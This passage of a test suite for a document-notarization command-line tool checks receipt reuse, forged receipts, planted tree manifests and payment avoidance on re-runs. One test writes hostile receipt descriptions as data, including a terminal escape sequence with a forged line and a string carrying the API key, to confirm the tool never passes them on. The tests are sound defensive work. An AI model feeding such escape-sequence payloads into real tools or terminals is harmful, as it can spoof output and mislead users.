      ['already-registered', root],
    ]);
  });

  it('receipts kept without their manifest: the root of their proofs is asked about, nothing paid again, receipts stay', async () => {
    const docs = await writeDocs('kept', 'receipts kept', ['a', 'b', 'c']);
    const receipts = bed.path('kept-receipts');
    const first = await onStore(freshStore(), receipts, docs);
    expect(first.run.code, describeRun(first.run)).toBe(0);
    const manifest = readdirSync(receipts).find((name) => name.endsWith('.tree.json'))!;
    const root = manifest.slice(0, 64);
    rmSync(join(receipts, manifest));
    const before = Object.fromEntries(readdirSync(receipts).map((n) => [n, readFileSync(join(receipts, n), 'utf8')]));

    // A fresh runner with the receipts only, and one new document: the three are under the root the
    // service has (one ask, a 409), the new one alone goes into a new tree.
    const added = [...docs, ...(await writeDocs('kept', 'receipts kept', ['d']))];
    const again = await onStore(freshStore(), receipts, added);
    expect(again.run.code, describeRun(again.run)).toBe(0);
    expect(again.calls).toEqual(['login:200', 'request:409', 'request:200', 'forfait:200']);
    const results = parseResults(again.run.stdout);
    expect(results.map((r) => [r.status, r.proof?.root === root])).toEqual([
      ['already-registered', true],
      ['already-registered', true],
      ['already-registered', true],
      ['registered', false],
    ]);
    for (const [name, text] of Object.entries(before)) expect(readFileSync(join(receipts, name), 'utf8')).toBe(text);
  });

  it('documents registered one by one, their receipts kept: asked about, nothing paid again, receipts stay', async () => {
    const docs = await writeDocs('alone', 'registered alone', ['a', 'b']);
    const receipts = bed.path('alone-receipts');
    const first = await bed.main(['register', ...docs, '--receipt-dir', receipts, '--quiet'], {
      env: { NOTARIZE_CONFIG_DIR: freshStore() },
    });
    expect(first.code, describeRun(first)).toBe(0);
    const before = Object.fromEntries(readdirSync(receipts).map((n) => [n, readFileSync(join(receipts, n), 'utf8')]));

    // A fresh runner with those receipts, a copy of a (no receipt of its own) and a new document:
    // a and b are asked about (their own digests; 409), the copy rides on a's answer, the new one
    // alone goes into a tree. Before, all four went into a new paid tree and a's and b's receipts were replaced.
    await bed.write('alone/copy-of-a.txt', readFileSync(docs[0]!));
    const added = [...docs, bed.path('alone/copy-of-a.txt'), ...(await writeDocs('alone', 'registered alone', ['c']))];
    const again = await onStore(freshStore(), receipts, added);
    expect(again.run.code, describeRun(again.run)).toBe(0);
    expect(again.calls).toEqual(['login:200', 'request:409', 'request:409', 'request:200', 'forfait:200']);
    const results = parseResults(again.run.stdout);
    const receiptOf = (name: string) => join(receipts, `${name}.notarization.json`);
    expect(results.map((r) => [r.status, r.proof?.treeSize, r.receipt])).toEqual([
      ['already-registered', undefined, receiptOf('a.txt')],
      ['already-registered', undefined, receiptOf('b.txt')],
      ['already-registered', undefined, receiptOf('a.txt')],
      ['registered', 1, receiptOf('c.txt')],
    ]);
    for (const [name, text] of Object.entries(before)) expect(readFileSync(join(receipts, name), 'utf8')).toBe(text);
    const verify = await bed.main(['verify', '--receipt-dir', receipts, ...added, '--json'], {
      env: { NOTARIZE_CONFIG_DIR: freshStore(), NOTARIZE_API_KEY: '' },
    });
    expect(verify.code, describeRun(verify)).toBe(0);

    // A receipt of a registration the service does not have (another service's history, or forged)
    // leaves the document to the tree, its receipt replaced by one with a proof.
    const forged = await writeDocs('alone', 'never registered', ['d']);
    const digestOf = (path: string) => createHash('sha256').update(readFileSync(path)).digest('hex');
    const forgedText = readFileSync(receiptOf('a.txt'), 'utf8')
      .replaceAll(digestOf(docs[0]!), digestOf(forged[0]!))
      .replace('"name": "a.txt"', '"name": "d.txt"')
      .replace(/"size": \d+/, `"size": ${readFileSync(forged[0]!).length}`);
    writeFileSync(receiptOf('d.txt'), forgedText);
    const third = await onStore(freshStore(), receipts, forged);
    expect(third.run.code, describeRun(third.run)).toBe(0);
    expect(third.calls).toEqual(['login:200', 'request:200', 'request:200', 'forfait:200']);
    expect(parseResults(third.run.stdout).map((r) => [r.status, r.proof?.treeSize])).toEqual([['registered', 1]]);

    // Its record's description is sent in that ask only if it passes the checks -d does, else the
    // digest: r88, an escape sequence, a BEL and a line break went to the service as they were;
    // r89, the API key, and 1.5 MB (refused with 413 on every run).
    const hostile = await writeDocs('alone', 'never registered either', ['e', 'f', 'g']);
    const descriptions = [
      'evil\u001b]0;pwned\u0007\nforged line',
      `notes ${bed.sandbox.apiKey} here`,
      'x'.repeat(1_500_000),
    ];
    for (const [i, doc] of hostile.entries()) {
      const name = basename(doc);
      const receipt = JSON.parse(forgedText.replaceAll(digestOf(forged[0]!), digestOf(doc)));
      receipt.document = { ...receipt.document, name, size: readFileSync(doc).length };
      receipt.record.description = descriptions[i];
      writeFileSync(receiptOf(name), `${JSON.stringify(receipt, null, 2)}\n`);
    }
    const mark = bed.mark();
    const fourth = await onStore(freshStore(), receipts, hostile);
    expect(fourth.run.code, describeRun(fourth.run)).toBe(0);
    expect(fourth.calls).toEqual([
      'login:200',
      'request:200',
      'request:200',
      'request:200',
      'request:200',
      'forfait:200',
    ]);
    const asks = bed
      .callsSince(mark)
      .filter((c) => c.route === 'request')
      .map((c) => JSON.parse(c.body) as { hash: string; description: string });
    for (const doc of hostile) {
      expect(asks).toContainEqual(expect.objectContaining({ hash: digestOf(doc), description: digestOf(doc) }));
    }
  });

  it('a receipt written before v1 (the bare record) of a registration on its own: asked about too, kept', async () => {
    const [a, c] = await writeDocs('bare-alone', 'bare record', ['a', 'c']);
    const receipts = bed.path('bare-alone-receipts');
    expect(
      (
        await bed.main(['register', a!, '--receipt-dir', receipts, '--quiet'], {
          env: { NOTARIZE_CONFIG_DIR: freshStore() },
        })
      ).code,
    ).toBe(0);
    const file = join(receipts, 'a.txt.notarization.json');
    const bare = `${JSON.stringify(JSON.parse(readFileSync(file, 'utf8')).record)}\n`;
    writeFileSync(file, bare);
    const run = await onStore(freshStore(), receipts, [a!, c!]);
    expect(run.run.code, describeRun(run.run)).toBe(0);
    expect(run.calls).toEqual(['login:200', 'request:409', 'request:200', 'forfait:200']);
    expect(parseResults(run.run.stdout).map((r) => [r.status, r.receipt])).toEqual([
      ['already-registered', file],
      ['registered', join(receipts, 'c.txt.notarization.json')],
    ]);
    expect(readFileSync(file, 'utf8')).toBe(bare);
  });

  it('--aggregate: a copy of a document under a root this store has the record of (not the tree) gets its receipt', async () => {
    const docs = await writeDocs('recorded', 'recorded root', ['a', 'b']);
    const receipts = bed.path('recorded-receipts');
    const store = freshStore();
    const first = await onStore(store, receipts, docs);
    expect(first.run.code, describeRun(first.run)).toBe(0);
    const root = parseResults(first.run.stdout)[0]!.proof!.root;
    rmSync(join(receipts, `${root}.tree.json`));
    rmSync(join(storePaths(store, bed.url).service, 'trees'), { recursive: true });
    cpSync(docs[0]!, bed.path('recorded/a-copy.txt'));
    const again = await onStore(store, receipts, [docs[0]!, bed.path('recorded/a-copy.txt')]);
    expect(again.run.code, describeRun(again.run)).toBe(0);
    expect(again.calls).toEqual([]);
    expect(parseResults(again.run.stdout).map((r) => [r.status, r.proof?.root, r.receipt])).toEqual([
      ['already-registered', root, join(receipts, 'a.txt.notarization.json')],
      ['already-registered', root, join(receipts, 'a-copy.txt.notarization.json')],
    ]);
    expect(JSON.parse(readFileSync(join(receipts, 'a-copy.txt.notarization.json'), 'utf8'))).toMatchObject({
      record: { hash: root },
      proof: { root },
    });
  });

  it('per-document register of a copy (no receipt of its own) of a document whose receipt leads to a root: nothing paid', async () => {
    const { docs, receipts, root } = await registeredTree('twin', 'twin content', ['a', 'b']);
    rmSync(join(receipts, `${root}.tree.json`));
    cpSync(docs[0]!, bed.path('twin/a-copy.txt'));
    // The copy first: its own receipt is missing, a's (under another name) leads to the root.
    const mark = bed.mark();
    const run = await bed.main(
      ['register', bed.path('twin/a-copy.txt'), docs[0]!, '--receipt-dir', receipts, '--json'],
      {
        env: { NOTARIZE_CONFIG_DIR: freshStore() },
      },
    );
    expect(run.code, describeRun(run)).toBe(0);
    expect(bed.callsSince(mark).map((c) => `${c.route}:${c.status}`)).toEqual(['login:200', 'request:409']);
    expect(parseResults(run.stdout).map((r) => [r.status, r.proof?.root])).toEqual([
      ['already-registered', root],
      ['already-registered', root],
    ]);
    // The copy's receipt is written at its own place from a's (r105: a name with none of its own let
    // verify --receipt-dir take any registered bytes at that name): its name, a's record and proof.
    const copy = JSON.parse(readFileSync(join(receipts, 'a-copy.txt.notarization.json'), 'utf8')) as ReceiptFields;
    const twin = JSON.parse(readFileSync(join(receipts, 'a.txt.notarization.json'), 'utf8')) as ReceiptFields;
    expect(copy).toEqual({ ...twin, document: { ...twin.document, name: 'a-copy.txt' } });

    // --aggregate of the copy alone (its twin not in the run): the same one ask, nothing paid.
    const alone = await onStore(freshStore(), receipts, [bed.path('twin/a-copy.txt')]);
    expect(alone.run.code, describeRun(alone.run)).toBe(0);
    expect(alone.calls).toEqual(['login:200', 'request:409']);
    expect(parseResults(alone.run.stdout)[0]).toMatchObject({ status: 'already-registered', proof: { root } });

    // A receipt of its own from another service: evidence of that registration, which a receipt of
    // this run would replace: refused before anything is sent (exit 2), in either mode, and kept.
    const other = readFileSync(join(receipts, 'a.txt.notarization.json'), 'utf8').replaceAll(
      bed.url,
      'https://other.example',
    );
    writeFileSync(join(receipts, 'a-copy.txt.notarization.json'), other);
    for (const flags of [[], ['--aggregate']]) {
      const mark2 = bed.mark();
      const again = await bed.main(
        ['register', ...flags, bed.path('twin/a-copy.txt'), '--receipt-dir', receipts, '--json'],
        {
          env: { NOTARIZE_CONFIG_DIR: freshStore() },
        },
      );
      expect(again.code, describeRun(again)).toBe(2);
      expect(again.stdout + again.stderr).toContain('registration with another service (https://other.example)');
      // The hint's --force (r91): the service has the document, this store no record: nothing is written.
      expect(again.stdout + again.stderr).toContain(
        'unless the service already has it and this store has no record of it: then nothing is written',
      );
      expect(bed.callsSince(mark2)).toEqual([]);
      expect(readFileSync(join(receipts, 'a-copy.txt.notarization.json'), 'utf8')).toBe(other);
    }
  });

  it("--force where the service has the document and this store nothing: another service's receipt kept, both services named (r91)", async () => {
    const [doc] = await writeDocs('force-other', 'forced, another service', ['a']);
    const receipts = bed.path('force-other-receipts');
    const first = await bed.main(['register', doc!, '--receipt-dir', receipts, '--quiet'], {
      env: { NOTARIZE_CONFIG_DIR: freshStore() },
    });
    expect(first.code, describeRun(first)).toBe(0);
    const file = join(receipts, 'a.txt.notarization.json');
    const other = readFileSync(file, 'utf8').replaceAll(bed.url, 'https://other.example');
    writeFileSync(file, other);
    // The hint's --force: registered again, a 409 (the service has it), no record to write from, the file kept.
    const mark = bed.mark();
    const forced = await bed.main(['register', '--force', doc!, '--receipt-dir', receipts, '--output', 'ndjson'], {
      env: { NOTARIZE_CONFIG_DIR: freshStore() },
    });
    expect(forced.code, describeRun(forced)).toBe(0);
    expect(bed.callsSince(mark).map((c) => `${c.route}:${c.status}`)).toEqual(['login:200', 'request:409']);
    expect(parseNdjson(forced.stdout)[0]).toMatchObject({ status: 'already-registered' });
    expect(forced.stderr).toContain(
      `${file} is a receipt of its document registered on its own at https://other.example, where this run ` +
        `confirmed its document registered on its own at ${bed.url}: it is left as it is, and no result names it`,
    );
    expect(readFileSync(file, 'utf8')).toBe(other);
  });

  it('no manifest of a root never requested: a request step refused, a root --fail-fast left out; one for a pending root', async () => {
    await bed.write('when/a.txt', 'manifest timing a\n');
    const receipts = bed.path('when-receipts');
    const manifests = () => (existsSync(receipts) ? readdirSync(receipts) : []).filter((n) => n.endsWith('.tree.json'));
    bed.sandbox.addFaults(parseFaults('request:status=503*4'));
    const refused = await onStore(freshStore(), receipts, [bed.path('when/a.txt')], ['--retries', '0']);
    expect(refused.run.code, describeRun(refused.run)).toBe(4);
    expect(manifests()).toEqual([]);
    const store = freshStore();
    const held = await onStore(store, receipts, [bed.path('when/a.txt')], ['--no-complete']);
    expect(held.run.code, describeRun(held.run)).toBe(0);
    // Left pending: `complete <root>` may pay for it later, knowing nothing of --receipt-dir.
    const heldRoot = parseResults(held.run.stdout)[0]!.proof!.root;
    expect(manifests()).toEqual([`${heldRoot}.tree.json`]);
    expect((await bed.main(['complete', heldRoot], { env: { NOTARIZE_CONFIG_DIR: store } })).code).toBe(0);
    // A fresh runner with the same --receipt-dir asks about it and pays nothing.
    const cold = await onStore(freshStore(), receipts, [bed.path('when/a.txt')]);
    expect(cold.run.code, describeRun(cold.run)).toBe(0);
    expect(cold.calls).toEqual(['login:200', 'request:409']);

    // --fail-fast: the pending root fails, the new tree for b is never sent, nor its manifest written.
    await bed.write('when/b.txt', 'manifest timing b\n');
    await bed.write('when/c.txt', 'manifest timing c\n');
    const failing = freshStore();
    const pendingRun = await onStore(failing, bed.path('when-other'), [bed.path('when/c.txt')], ['--no-complete']);
    const pendingRoot = parseResults(pendingRun.run.stdout)[0]!.proof!.root;
    bed.sandbox.addFaults(parseFaults('forfait:status=402*1'));
    const docs = [bed.path('when/c.txt'), bed.path('when/b.txt')];
    const stopped = await onStore(failing, bed.path('when-other'), docs, ['--fail-fast']);
    expect(stopped.run.code, describeRun(stopped.run)).toBe(1);
    expect(parseResults(stopped.run.stdout).map((r) => r.status)).toEqual(['failed', 'skipped']);
    // The pending root's, written before its completion went out; none for b's.
    expect(readdirSync(bed.path('when-other')).filter((n) => n.endsWith('.tree.json'))).toEqual([
      `${pendingRoot}.tree.json`,
    ]);
  });

  it('an ask answered 200 with a page that is no session fails its documents (exit 5): nothing is paid again', async () => {
    await bed.write('ask-html/a.txt', 'asked, answered by a maintenance page\n');
    const docs = [bed.path('ask-html/a.txt')];
    const receipts = bed.path('ask-html-receipts');
    expect((await onStore(freshStore(), receipts, docs)).run.code).toBe(0);
    bed.sandbox.addFaults(parseFaults('request:html*1'));
    const again = await onStore(freshStore(), receipts, docs);
    expect(again.run.code, describeRun(again.run)).toBe(5);
    expect(again.calls).toEqual(['login:200', 'request:200']);
    expect(parseResults(again.run.stdout)[0]).toMatchObject({ status: 'failed', error: { code: 'protocol' } });
    expect(readdirSync(receipts).filter((name) => name.endsWith('.tree.json'))).toHaveLength(1);
  });

  it('documents under several roots the service has: one warning names them all; a stale receipt keeps its hash', async () => {
    const a = await bed.write('two-roots/a.txt', 'root one\n');
    const b = await bed.write('two-roots/b.txt', 'root two\n');
    const receipts = bed.path('two-roots-receipts');
    await onStore(freshStore(), receipts, [bed.path('two-roots/a.txt')]);
    await onStore(freshStore(), receipts, [bed.path('two-roots/b.txt')]);
    // The receipts lost, the manifests kept: the roots are asked about, and no receipt can be written.
    const lost = ['a.txt', 'b.txt'].map((name) => join(receipts, `${name}.notarization.json`));
    const texts = lost.map((file) => readFileSync(file, 'utf8'));
    lost.forEach((file) => rmSync(file));
    const again = await onStore(freshStore(), receipts, [bed.path('two-roots/a.txt'), bed.path('two-roots/b.txt')]);
    expect(again.run.code, describeRun(again.run)).toBe(0);
    expect(again.calls).toEqual(['login:200', 'request:409', 'request:409']);
    expect(parseResults(again.run.stdout).map((r) => r.receipt ?? null)).toEqual([null, null]);
    const warnings = again.run.stderr.split('\n').filter((line) => line.includes('no new receipts'));
    expect(warnings).toHaveLength(1);
    expect(warnings[0]).toMatch(/no new receipts for the documents under 2 roots \([0-9a-f]{64}, [0-9a-f]{64}\)/);
    lost.forEach((file, i) => writeFileSync(file, texts[i]!));

    writeFileSync(join(receipts, 'a.txt.notarization.json'), '{"stale": true}\n');
    const stale = await onStore(freshStore(), receipts, [bed.path('two-roots/a.txt'), bed.path('two-roots/b.txt')]);
    expect(stale.run.code, describeRun(stale.run)).toBe(1); // b's root was asked about: something was sent
    expect(parseResults(stale.run.stdout)[0]).toMatchObject({
      hash: a,
      status: 'failed',
      error: { code: 'receipt_exists' },
    });
    expect(parseResults(stale.run.stdout)[1]).toMatchObject({ hash: b });
  });

  it('a re-run without one of the documents, or with one changed, pays nothing for the others', async () => {
    const { docs, receipts, root } = await registeredTree('ci-sub', 'release', ['a', 'b', 'c']);

    // b dropped from the run: a and c are under the root the service has (its 409), nothing paid.
    const without = await onStore(freshStore(), receipts, [docs[0]!, docs[2]!]);
    expect(without.run.code, describeRun(without.run)).toBe(0);
    expect(without.calls).toEqual(['login:200', 'request:409']);
    expect(parseResults(without.run.stdout).map((r) => [r.status, r.proof?.root])).toEqual([
      ['already-registered', root],
      ['already-registered', root],
    ]);

    // b changed: its old receipt stands in the way (exit 1, as before), and the others are not bought again.
    await bed.write('ci-sub/b.txt', 'release b, changed\n');
    const changed = await onStore(freshStore(), receipts, docs);
    expect(changed.run.code, describeRun(changed.run)).toBe(1);
    expect(changed.calls).toEqual(['login:200', 'request:409']);
    expect(parseResults(changed.run.stdout).map((r) => r.status)).toEqual([
      'already-registered',
      'failed',
      'already-registered',
    ]);
    // Their receipts still verify, against the first run's root, on a store that never saw them.
    const verify = await bed.main(['verify', '--receipt-dir', receipts, docs[0]!, docs[2]!, '--json'], {
      env: { NOTARIZE_CONFIG_DIR: freshStore(), NOTARIZE_API_KEY: '' },
    });
    expect(verify.code, describeRun(verify)).toBe(0);
  });

  it('a manifest whose leaves do not make its root is passed over, with a warning naming it', async () => {
    await bed.write('ci-bad/a.txt', 'a manifest edited after the run\n');
    const receipts = bed.path('ci-bad-receipts');
    const first = await onStore(freshStore(), receipts, [bed.path('ci-bad/a.txt')]);
    const root = parseResults(first.run.stdout)[0]!.proof!.root;
    const manifest = join(receipts, `${root}.tree.json`);
    // Another salt, written as notarize writes a tree (its digest of the leaf lines made
    // again): only the fold to the root can tell.
    const tree = JSON.parse(readFileSync(manifest, 'utf8')) as TreeEntry & { type?: string; version?: number };
    delete tree.type;
    delete tree.version;
    tree.leaves[0]!.salt = '00'.repeat(32);
    writeFileSync(manifest, [...treeManifestText(tree)].join(''));
    // The document's receipt still leads to the root: it is asked about, and nothing is paid again.
    const byReceipt = await onStore(freshStore(), receipts, [bed.path('ci-bad/a.txt')]);
    expect(byReceipt.run.code, describeRun(byReceipt.run)).toBe(0);
    expect(byReceipt.calls).toEqual(['login:200', 'request:409']);
    expect(parseResults(byReceipt.run.stdout)[0]).toMatchObject({ status: 'already-registered', proof: { root } });
    // Without it, the manifest alone is passed over, with a warning naming it.
    rmSync(join(receipts, 'a.txt.notarization.json'));
    const again = await onStore(freshStore(), receipts, [bed.path('ci-bad/a.txt')]);
    expect(again.run.code, describeRun(again.run)).toBe(0);
    expect(again.run.stderr).toContain(`${root}.tree.json`);
    expect(again.run.stderr).toMatch(/passed over: .*its leaves make root [0-9a-f]{64}, not /);
    expect(again.calls).toEqual(['login:200', 'request:200', 'forfait:200']);
    expect(parseResults(again.run.stdout)[0]!.proof!.root).not.toBe(root);
  });
});

describe('register --aggregate: the manifests of --receipt-dir are trusted for their salts alone', () => {
  /** Writes into `dir` a manifest whose leaves make its root, over `digests` (repeats allowed), with `fields` of its own; returns the root. */
  function plant(dir: string, digests: string[], fields: { description: string; createdAt: string }): string {
    const leaves = digests.map((sha256, index) => ({
      index,
      name: `planted-${index}`,
      sha256,
      size: 1,
      salt: createHash('sha256').update(`planted salt ${index} ${fields.description}`).digest('hex'),
    }));
    const hashes = Buffer.concat(leaves.map((leaf) => leafHash(hex(leaf.sha256), hex(leaf.salt))));
    const root = new MerkleTree(hashes).root.toString('hex');
    const entry = { root, treeSize: leaves.length, ...fields, leaves };
    mkdirSync(dir, { recursive: true });
    writeFileSync(join(dir, `${root}.tree.json`), [...treeManifestText(entry)].join(''));
    return root;
  }

  it('a document already under a tree of the store does not stop the manifest from placing the others', async () => {
    const { docs, receipts, root } = await registeredTree('t1', 'trust one', ['a', 'b', 'c']);
    const store = freshStore();
    expect((await onStore(store, bed.path('t1-alone'), [docs[0]!])).run.code).toBe(0);
    const again = await onStore(store, receipts, docs);
    expect(again.run.code, describeRun(again.run)).toBe(0);
    expect(again.calls).toEqual(['request:409']);
    expect(parseResults(again.run.stdout).map((r) => [r.status, r.proof!.root === root])).toEqual([
      ['already-registered', false],
      ['already-registered', true],
      ['already-registered', true],
    ]);
  });

  it('a root the service does not know is never registered: asked once, dropped, its documents in a new tree', async () => {
    const digest = await bed.write('t2/release.bin', 'a release artifact\n');
    const receipts = bed.path('t2-receipts');
    const root = plant(receipts, [digest], { description: 'Signed off by Mallory', createdAt: '2099-01-01T00:00:00Z' });
    const planted = readFileSync(join(receipts, `${root}.tree.json`), 'utf8');
    const store = freshStore();
    const run = await onStore(store, receipts, [bed.path('t2/release.bin')], ['-d', 'Release 2.0']);
    expect(run.run.code, describeRun(run.run)).toBe(0);
    expect(run.calls).toEqual(['login:200', 'request:200', 'request:200', 'forfait:200']);
    const [result] = parseResults(run.run.stdout);
    expect(result).toMatchObject({ status: 'registered', proof: { treeSize: 1 } });
    expect(result!.proof!.root).not.toBe(root);
    expect(JSON.stringify(result!.record)).toContain('Release 2.0');
    // Nothing of the planted root kept: no session, no tree; its manifest untouched.
    const service = storePaths(store, bed.sandbox.url).service;
    expect(existsSync(join(service, 'pending', `${root}.json`))).toBe(false);
    expect(existsSync(join(service, 'trees', `${root}.json`))).toBe(false);
    expect(readFileSync(join(receipts, `${root}.tree.json`), 'utf8')).toBe(planted);
  });

  it('a larger planted manifest beside the genuine one costs a request step, never a payment', async () => {
    const { docs, receipts, first, root } = await registeredTree('t5', 'genuine', ['a', 'b']);
    const before = readFileSync(join(receipts, 'a.txt.notarization.json'), 'utf8');
    const digests = parseResults(first.run.stdout).map((r) => r.hash!);
    const long = 'x'.repeat(400);
    const planted = plant(receipts, digests, { description: long, createdAt: '2099-01-01T00:00:00Z' });
    const again = await onStore(freshStore(), receipts, docs);
    expect(again.run.code, describeRun(again.run)).toBe(0);
    expect(again.calls).toEqual(['login:200', 'request:200', 'request:409']);
    expect(bed.requestedHashes().slice(-2)).toEqual([planted, root]);
    expect(parseResults(again.run.stdout).map((r) => [r.status, r.proof!.root])).toEqual([
      ['already-registered', root],
      ['already-registered', root],
    ]);
    expect(readFileSync(join(receipts, 'a.txt.notarization.json'), 'utf8')).toBe(before);
  });

  it('a manifest laid out otherwise (CRLF, jq, a byte order mark) is used; one with a leaf changed is passed over', async () => {
    await bed.write('t6/a.txt', 'a pretty-printed manifest\n');
    const receipts = bed.path('t6-receipts');
    const first = await onStore(freshStore(), receipts, [bed.path('t6/a.txt')]);
    const root = parseResults(first.run.stdout)[0]!.proof!.root;
    const manifest = join(receipts, `${root}.tree.json`);
    const written = readFileSync(manifest, 'utf8');
    rmSync(join(receipts, 'a.txt.notarization.json'));
    // As a checkout with core.autocrlf, `jq .` or an editor leaves it: the same value. A re-run on a
    // fresh store passed it over, and paid for the document again.
    for (const travelled of [
      written.replace(/\n/g, '\r\n'),
      JSON.stringify(JSON.parse(written), null, 4),
      `\uFEFF${JSON.stringify(JSON.parse(written))}`,
      `\uFEFF${written}`,
    ]) {
      writeFileSync(manifest, travelled);
      const again = await onStore(freshStore(), receipts, [bed.path('t6/a.txt')]);
      expect(again.run.code, describeRun(again.run)).toBe(0);
      expect(again.calls).toEqual(['login:200', 'request:409']);
      expect(parseResults(again.run.stdout)).toMatchObject([{ status: 'already-registered', proof: { root } }]);
      expect(again.run.stderr).not.toContain('passed over');
    }
    // A leaf changed is no tree the service was asked about: passed over, said, and the document paid anew.
    writeFileSync(
      manifest,
      written.replace(/"salt":"(.)/, (_, c: string) => `"salt":"${c === '0' ? '1' : '0'}`),
    );
    const changed = await onStore(freshStore(), receipts, [bed.path('t6/a.txt')]);
    expect(changed.run.code, describeRun(changed.run)).toBe(0);
    // Named as what it is, in --receipt-dir: no store file.
    expect(changed.run.stderr).toContain(
      `a tree manifest was passed over: tree manifest ${manifest} is damaged (its leaves are not those it was written with`,
    );
    expect(changed.calls).toEqual(['login:200', 'request:200', 'forfait:200']);
    // A link in its place: named a tree manifest too.
    const linkedTo = `${manifest}.real`;
    writeFileSync(linkedTo, written);
    rmSync(manifest);
    symlinkSync(linkedTo, manifest);
    const linked = await onStore(freshStore(), receipts, [bed.path('t6/a.txt')]);
    expect(linked.run.stderr).toContain(`a tree manifest was passed over: cannot read tree manifest ${manifest}`);
    expect(linked.run.stderr).not.toContain('store file');
  });

  it('a damaged tree in the store stops the run before any manifest is asked about: exit 2, nothing sent', async () => {
    await bed.write('t8/a.txt', 'a store tree damaged later\n');
    const store = freshStore();
    const receipts = bed.path('t8-receipts');
    const root = parseResults((await onStore(store, receipts, [bed.path('t8/a.txt')])).run.stdout)[0]!.proof!.root;
    writeFileSync(join(storePaths(store, bed.sandbox.url).service, 'trees', `${root}.json`), '{');
    const again = await onStore(store, receipts, [bed.path('t8/a.txt')]);
    expect(again.run.code, describeRun(again.run)).toBe(2);
    expect(again.calls).toEqual([]);
  });

  it('once a root was asked about, a tree the disk refuses is exit 1, not 2: something was sent', async () => {
    await bed.write('t7/kept.txt', 'under a manifest\n');
    const receipts = bed.path('t7-receipts');
    expect((await onStore(freshStore(), receipts, [bed.path('t7/kept.txt')])).run.code).toBe(0);
    for (let i = 0; i < 60; i++) await bed.write(`t7/new-${i}.txt`, `document ${i} of a tree too large to save\n`);
    const mark = bed.mark();
    const run = await bed.run(['register', '--aggregate', '-r', bed.path('t7'), '--receipt-dir', receipts], {
      shell: 'ulimit -f 8',
      env: { NOTARIZE_CONFIG_DIR: freshStore() },
    });
    expect(
      bed.callsSince(mark).map((c) => `${c.route}:${c.status}`),
      describeRun(run),
    ).toEqual(['login:200', 'request:409']);
    expect(run.code, describeRun(run)).toBe(1);
    expect(run.stderr).toContain('nothing was paid for: only the roots of manifests or receipts were asked about');
    expect(run.stderr).not.toContain('nothing was sent');
  });

  it('a manifest of a run that named a document twice is used by a run that names it once', async () => {
    await bed.write('t9/y.txt', 'named twice before\n');
    await bed.write('t9/z.txt', 'named once\n');
    const [y, z] = [bed.path('t9/y.txt'), bed.path('t9/z.txt')];
    const receipts = bed.path('t9-receipts');
    const first = await onStore(freshStore(), receipts, [y, y, z]);
    expect(parseResults(first.run.stdout)[0]!.proof).toMatchObject({ treeSize: 3 });
    const again = await onStore(freshStore(), receipts, [y, z]);
    expect(again.calls).toEqual(['login:200', 'request:409']);
    expect(parseResults(again.run.stdout).map((r) => r.status)).toEqual(['already-registered', 'already-registered']);
  });

  it('another aggregate run on the same store does not wait for the answers to the asks', async () => {
    await bed.write('t11/a.txt', 'asked about slowly\n');
    await bed.write('t11/other.txt', 'an unrelated document\n');
    const receipts = bed.path('t11-receipts');
    expect((await onStore(freshStore(), receipts, [bed.path('t11/a.txt')])).run.code).toBe(0);
    const store = freshStore();
    bed.sandbox.addFaults(parseFaults('request:latency=2500*1'));
    const slow = onStore(store, receipts, [bed.path('t11/a.txt')]);
    await new Promise((resolve) => setTimeout(resolve, 300));
    const started = performance.now();
    const other = await bed.main(['register', '--aggregate', bed.path('t11/other.txt'), '--json'], {
      env: { NOTARIZE_CONFIG_DIR: store },
    });
    const otherMs = performance.now() - started;
    expect(other.code, describeRun(other)).toBe(0);
    expect((await slow).run.code).toBe(0);
    // Well under the 2.2 s the ask had left: the lock was not held through it.
    expect(otherMs).toBeLessThan(1800);
  });

  it('--fail-fast: once the ask about a root failed, no other root is asked about nor sent', async () => {
    const receipts = bed.path('t10-receipts');
    const docs = [];
    for (const name of ['a', 'b']) {
      await bed.write(`t10/${name}.txt`, `fail fast ${name}\n`);
      docs.push(bed.path(`t10/${name}.txt`));
      // One manifest per document, each registered by a run of its own.
      expect((await onStore(freshStore(), receipts, [docs.at(-1)!])).run.code).toBe(0);
    }
    await bed.write('t10/c.txt', 'fail fast c, under no manifest\n');
    bed.sandbox.addFaults(parseFaults('request:status=400*1'));
    const store = freshStore();
    const run = await onStore(store, receipts, [...docs, bed.path('t10/c.txt')], ['--fail-fast']);
    expect(run.calls).toEqual(['login:200', 'request:400']);
    expect(parseResults(run.run.stdout).map((r) => r.status)).toEqual(['skipped', 'failed', 'skipped']);
    expect(run.run.code).toBe(1);
    // No tree saved for the skipped: the next run asks about their manifests again, and pays for c alone.
    expect(existsSync(join(storePaths(store, bed.sandbox.url).service, 'trees'))).toBe(false);
    const next = await onStore(store, receipts, [...docs, bed.path('t10/c.txt')]);
    expect(next.calls).toEqual(['request:409', 'request:409', 'request:200', 'forfait:200']);
  });

  it.runIf(process.getuid?.() === 0)(
    "a manifest of another user (a container step's) is used: its content is checked in full",
    async () => {
      await bed.write('t12/a.txt', 'receipts written by another user\n');
      const receipts = bed.path('t12-receipts');
      const root = parseResults((await onStore(freshStore(), receipts, [bed.path('t12/a.txt')])).run.stdout)[0]!.proof!
        .root;
      chownSync(join(receipts, `${root}.tree.json`), 65534, 65534);
      const again = await onStore(freshStore(), receipts, [bed.path('t12/a.txt')]);
      expect(again.calls).toEqual(['login:200', 'request:409']);
      expect(parseResults(again.run.stdout)[0]).toMatchObject({ status: 'already-registered', proof: { root } });
    },
  );

  it('a manifest of more than 10,000 leaves (and four per document of the run) is not asked about, and said', async () => {
    const digest = await bed.write('t3/a.txt', 'one document, listed many times\n');
    const receipts = bed.path('t3-receipts');
    const root = plant(receipts, Array<string>(10_001).fill(digest), {
      description: 'x',
      createdAt: '2026-01-01T00:00:00Z',
    });
    const run = await onStore(freshStore(), receipts, [bed.path('t3/a.txt')]);
    expect(run.run.code, describeRun(run.run)).toBe(0);
    expect(run.calls).toEqual(['login:200', 'request:200', 'forfait:200']);
    expect(parseResults(run.run.stdout)[0]!.proof).toMatchObject({ treeSize: 1 });
    expect(parseResults(run.run.stdout)[0]!.proof!.root).not.toBe(root);
    expect(run.run.stderr).toContain(
      `tree manifests in --receipt-dir not read, as larger than a run of 1 document reads (10000 leaves): if a ` +
        `document of this run (${digest}) is under one of their roots, its receipt gone, it is registered again ` +
        `(keep the receipts, or run over more of their documents): ${join(receipts, `${root}.tree.json`)}`,
    );
  });

  it('per-document register: newer manifests, however many, crowd out none; a larger one is named, not read', async () => {
    // A tree of 5 registered, its receipts lost; beside it, newer unrelated manifests of 10,000 leaves
